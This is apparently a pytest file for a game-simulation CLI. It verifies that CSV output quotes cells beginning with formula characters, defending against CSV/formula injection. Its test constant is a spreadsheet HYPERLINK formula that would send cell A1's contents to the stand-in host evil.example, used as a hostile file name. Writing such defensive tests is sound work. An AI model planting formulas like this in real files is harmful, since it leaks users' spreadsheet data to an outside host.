"""CSV files the tools write hold no formula (issue 26, item 20).

`simulate --csv` and `--games-out FILE.csv` wrote the spec argument raw into a cell: a file
named `=HYPERLINK(...)` was a formula in any spreadsheet. A text cell beginning with `=`, `+`,
`-`, `@`, a tab or a carriage return is now quoted as text (OWASP: a single quote first), a
number stays a number (a negative margin too), and `play --replay` reads each cell back as it
was written.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import pathlib
import shutil

import pytest
from click.testing import CliRunner

from app import cli
from compiler.safe_text import csv_cell, csv_text
from playtest import records

ROOT = pathlib.Path(__file__).resolve().parent.parent
HOSTILE = '=HYPERLINK("evil.example?leak="&A1,"open")+1.yaml'  # a file name holds no slash


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "'=1", "'", "-"])
def test_a_text_a_spreadsheet_would_run_is_quoted_and_read_back(text):
    assert csv_cell(text) == "'" + text
    assert csv_text(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["official", "1-2", "a=b", "", "greedy;mcts:64", 3, -2, 2.5, -0.25])
def test_other_texts_and_every_number_are_left_as_they_are(value):
    assert csv_cell(value) == value
    if isinstance(value, str):
        assert csv_text(value) == value


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One run of `simulate` over a spec whose file name is a formula: --csv, and records as CSV and JSON Lines."""
    runner, here = CliRunner(), tmp_path_factory.mktemp("csv")
    shutil.copy(ROOT / "variants" / "target-12.yaml", here / HOSTILE)
    with contextlib.chdir(here):
        summary = runner.invoke(
            cli.main,
            [
                "simulate",
                HOSTILE,
                "--games",
                "2",
                "--bots",
                "random",
                "--seed",
                "3",
                "--csv",
                "--games-out",
                "games.csv",
            ],
        )
        assert summary.exit_code == 0, summary.output
        jsonl = runner.invoke(
            cli.main,
            ["simulate", HOSTILE, "--games", "2", "--bots", "random", "--seed", "3", "--games-out", "games.jsonl"],
        )
        assert jsonl.exit_code == 0, jsonl.output
    yield here, summary.stdout


def test_simulate_csv_quotes_a_spec_argument_that_is_a_formula(hostile_run):
    _, stdout = hostile_run
    [row] = cells(stdout)
    assert row["spec"] == "'" + HOSTILE and row["name"] == "target-12"
    assert float(row["rounds_mean"]) > 0  # numbers are numbers


def test_games_out_csv_quotes_the_label_and_replays(hostile_run, monkeypatch):
    here, _ = hostile_run
    rows = cells((here / "games.csv").read_text(encoding="utf-8"))
    assert [r["label"] for r in rows] == ["'" + HOSTILE] * 2
    assert all(not r[key].startswith(("=", "+", "-", "@")) for r in rows for key in r)
    monkeypatch.chdir(here)
    result = CliRunner().invoke(cli.main, ["play", HOSTILE, "--replay", "games.csv", "--game", "1"])
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("replay of game 1 of target-12 (games.csv:3): seed ")


def test_a_record_round_trips_through_csv_with_texts_and_numbers_that_begin_like_formulas(hostile_run, tmp_path):
    """A negative margin stays the number -2; texts that begin with a quote or a minus come back as written."""
    here, _ = hostile_run
    rows = [json.loads(line) for line in (here / "games.jsonl").read_text(encoding="utf-8").splitlines()]
    rows[1].update(label="'-weird", margin=-2, scores=[-1, 3])
    written = records.format_records(rows, "csv")
    second = cells(written)[1]
    assert (second["label"], second["margin"], second["scores"]) == ("''-weird", "-2", "'-1;3")
    (tmp_path / "games.csv").write_text(written, encoding="utf-8")
    row, where = records.read_record(tmp_path / "games.csv", "target-12", 1)
    assert where == f"{tmp_path / 'games.csv'}:3"
    assert {k: row[k] for k in ("spec", "index", "seed", "players", "seats", "actions")} == {
        k: rows[1][k] for k in ("spec", "index", "seed", "players", "seats", "actions")
    }
    [header] = list(csv.reader(io.StringIO(written.splitlines()[0])))
    assert header[:3] == ["format", "version", "spec"]


def test_every_csv_writer_of_the_sources_quotes_its_cells():
    """A new CSV output must go through csv_cell: each module that makes a csv.writer calls it."""
    writers = [
        p
        for folder in ("app", "compiler", "playtest", "web")
        for p in sorted((ROOT / folder).rglob("*.py"))
        if "csv.writer(" in p.read_text(encoding="utf-8")
    ]
    assert {p.relative_to(ROOT).as_posix() for p in writers} >= {"playtest/records.py", "playtest/simulate/formats.py"}
    assert [p.name for p in writers if "csv_cell(" not in p.read_text(encoding="utf-8")] == []
